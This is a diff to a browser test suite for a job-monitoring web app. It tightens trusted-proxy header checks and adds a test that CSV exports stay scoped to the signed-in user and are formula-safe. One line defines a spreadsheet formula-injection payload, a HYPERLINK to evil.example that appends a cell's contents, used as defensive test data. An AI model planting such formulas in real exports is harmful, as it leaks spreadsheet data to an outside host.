@@ -8,7 +8,7 @@ typed straight into the address bar.
 from __future__ import annotations
 
 import pytest
-from conftest import PASSWORDS
+from conftest import PASSWORDS, PROXY
 from pagewatch import PageWatch
 
 pytestmark = pytest.mark.browser
@@ -87,7 +87,7 @@ def test_staff_see_every_job(web_basic, browser, screenshots):
 
 def as_proxy_user(browser, headers: dict[str, str]) -> PageWatch:
     watch = PageWatch(browser)
-    watch.context.set_extra_http_headers(headers)
+    watch.context.set_extra_http_headers(PROXY | headers)
     return watch
 
 
@@ -108,9 +108,44 @@ def test_trusted_header_user_and_staff_group(web_header, browser):
         assert sorted(job_rows(watch.page)) == ["1001", "1002", "1003"]
     finally:
         watch.close()
-    watch = PageWatch(browser)  # no header: nobody, sees nothing
+    watch = as_proxy_user(browser, {})  # the proxy names nobody: refused
     try:
-        watch.open(f"{web_header}/job?jobid=1001")
-        watch.page.get_by_text("Job 1001 not found.").wait_for(timeout=30_000)
+        response = watch.page.goto(f"{web_header}/job?jobid=1001")
+        assert response.status == 403
+        assert watch.page.get_by_text("cfd-run").count() == 0
     finally:
         watch.close()
+
+
+HOSTILE = '=HYPERLINK("http://evil.example/?"&B2,"Click for details")'
+
+
+def test_researcher_csv_export_is_scoped_and_formula_safe(web_basic, pg_server, browser,
+                                                          tmp_path):
+    import csv
+
+    import psycopg
+
+    rows = [("1004", "alice", "+proj-cfd", HOSTILE), ("1005", "bob", "proj-ml", "-bob-secret")]
+    with psycopg.connect(pg_server) as conn:
+        for jobid, user, account, name in rows:
+            conn.execute("INSERT INTO job_data (jobid, username, account, jobname, state, nnodes,"
+                         " ncpus, elapsed_s) VALUES (%s, %s, %s, %s, 'COMPLETED', 3, 8, 7200)",
+                         (jobid, user, account, name))
+    watch = signed_in(browser, web_basic, "alice")
+    try:
+        watch.open(f"{web_basic}/jobs")
+        job_rows(watch.page)
+        with watch.page.expect_download() as download:
+            watch.page.get_by_role("button", name="Export CSV").click()
+        path = tmp_path / "jobs.csv"
+        download.value.save_as(path)
+        exported = {r["jobid"]: r for r in csv.DictReader(path.open(newline=""))}
+    finally:
+        watch.close()
+        with psycopg.connect(pg_server) as conn:
+            conn.execute("DELETE FROM job_data WHERE jobid IN ('1004', '1005')")
+    assert sorted(exported) == ["1001", "1003", "1004"]  # only alice's jobs
+    assert exported["1004"]["name"] == "'" + HOSTILE
+    assert exported["1004"]["account"] == "'+proj-cfd"
+    assert exported["1004"]["nodes"] == "3" and exported["1004"]["runtime_s"] == "7200"
